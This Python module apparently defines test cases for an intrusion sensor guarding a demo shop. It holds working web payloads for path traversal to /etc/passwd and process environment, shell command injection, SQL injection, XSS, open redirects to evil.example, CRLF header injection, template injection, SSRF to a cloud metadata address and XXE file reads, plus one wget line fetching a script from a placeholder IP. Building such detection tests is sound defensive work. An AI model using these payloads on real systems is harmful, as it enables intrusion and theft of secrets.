"""Attacks on the shop: what to ask, what the sensor calls it, whether it works where the shop is open."""

from __future__ import annotations

from typing import Final, NamedTuple
from urllib.parse import quote


class Case(NamedTuple):
    target: str
    type: str
    works: bool = True
    body: bytes = b""


def _of(page: str, parameter: str, value: str, kind: str, works: bool = True) -> Case:
    return Case(f"/{page}?{parameter}={quote(value, safe='')}", kind, works)


XML: Final = b'<?xml version="1.0"?><!DOCTYPE o [<!ENTITY x SYSTEM "file:///etc/%s">]><order>&x;</order>'

CASES: Final[dict[str, Case]] = {
    "passwd by dots": _of("file", "name", "../../etc/passwd", "ptrav"),
    "passwd by its path": _of("file", "name", "/etc/passwd", "ptrav"),
    "passwd with a detour": _of("file", "name", "../../usr/../etc/./passwd", "ptrav"),
    "hosts": _of("file", "name", "../../../etc/hosts", "ptrav"),
    "group": _of("file", "name", "../../etc/group", "ptrav"),
    "environment": _of("file", "name", "../../proc/self/environ", "ptrav"),
    "kernel version": _of("file", "name", "../../proc/version", "ptrav"),
    "a file that is not there": _of("file", "name", "../../etc/passwd.bak", "ptrav", works=False),
    "id behind a semicolon": _of("ping", "host", "127.0.0.1;id", "rce"),
    "id in backticks": _of("ping", "host", "`id`", "rce"),
    "id by substitution": _of("ping", "host", "$(id)", "rce"),
    "id by a pipe": _of("ping", "host", "x|id", "rce"),
    "passwd by cat": _of("ping", "host", "x;cat /etc/passwd", "rce"),
    "passwd without blanks": _of("ping", "host", "x;cat${IFS}/etc/passwd", "rce"),
    "uname": _of("ping", "host", "x && uname -a", "rce"),
    "listing": _of("ping", "host", "x;ls -la /", "rce"),
    "a word printed": _of("ping", "host", "x;echo zq81xw7f", "rce"),
    "a command that is none": _of("ping", "host", "x;wget2345 http://203.0.113.9/x.sh", "rce", works=False),
    "a quote": _of("items", "id", "1' OR '1'='1", "sqli"),
    "wrong columns": _of("items", "id", "1 UNION SELECT 1,2,3,4--", "sqli"),
    "hexadecimal echo": _of("items", "id", "0 UNION SELECT CAST(x'7a71666b75627a61' AS TEXT),1--", "sqli"),
    "characters echo": _of("items", "id", "0 UNION SELECT char(122,113,107,117,98),1--", "sqli"),
    "joined echo": _of("items", "id", "0 UNION SELECT 'zq8x'||'1kd7',1--", "sqli"),
    "schema": _of("items", "id", "0 UNION SELECT sql,1 FROM sqlite_master--", "sqli"),
    "not a wait": _of("items", "id", "1 AND sleep(0)", "sqli", works=False),
    "a wait": _of("items", "id", "1 AND sleep(2)", "sqli"),
    "a longer wait": _of("items", "id", "1 AND sleep(4)", "sqli"),
    "script": _of("search", "q", "<script>alert(1)</script>", "xss"),
    "handler": _of("search", "q", "<img src=x onerror=alert(1)>", "xss"),
    "svg": _of("search", "q", '"><svg onload=alert(document.domain)>', "xss"),
    "handler in the attribute": _of("search", "q", '" onfocus=alert(1) autofocus x="', "xss"),
    "script in JSON": _of("suggest", "q", "<script>alert(1)</script>", "xss", works=False),
    "away": _of("go", "next", "//evil.example/login", "redir"),
    "away with a backslash": _of("go", "next", "/\\evil.example/login", "redir"),
    "away by name and password": _of("go", "next", "https://shop.example@evil.example/", "redir"),
    "header": _of("language", "set", "en\r\nX-Injected: zq81", "crlf"),
    "cookie": _of("language", "set", "en\r\nSet-Cookie: session=zq81", "crlf"),
    "product": _of("card", "text", "{{7919*7907}}", "ssti"),
    "small product in words": _of("card", "text", "Dear{{7*7}}friend", "ssti"),
    "metadata": _of("fetch", "url", "http://169.254.169.254/latest/meta-data/", "ssrf"),
    "an answer that shows nothing": _of("fetch", "url", "http://127.0.0.1:22/", "ssrf", works=False),
    "entity passwd": Case("/order", "xxe", body=XML % b"passwd"),
    "entity hosts": Case("/order", "xxe", body=XML % b"hosts"),
}
